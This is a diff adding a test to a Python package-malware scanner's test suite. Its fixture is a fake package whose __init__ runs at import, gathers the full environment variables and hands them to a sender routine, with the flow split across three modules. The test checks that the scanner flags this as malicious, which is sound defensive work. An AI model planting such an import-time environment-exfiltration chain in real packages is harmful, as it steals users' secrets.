@@ -948,3 +948,19 @@ def test_benign_helper_in_another_module_sends_to_the_callers_url(tmp_path: Path
     files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_client.py": client}
     verdict, findings = scan_package(tmp_path, files)
     assert verdict is Verdict.CLEAN, findings
+
+
+def test_exfil_flow_wired_across_three_modules_from_init(tmp_path: Path) -> None:
+    # gather in one module, send in another, wired by a third that __init__ runs at import
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from . import _platform as _p\n_p.ensure_terminal()\n",
+        f"{DEFAULT_NAME}/_platform.py": (
+            "from ._probe import gather\nfrom ._report import send\n"
+            "def ensure_terminal():\n    send(gather())\n"
+        ),
+        f"{DEFAULT_NAME}/_probe.py": "import os\ndef gather():\n    return {'env': dict(os.environ)}\n",
+        f"{DEFAULT_NAME}/_report.py": SENDER,
+    }
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") and "(import)" in f for f in findings), findings
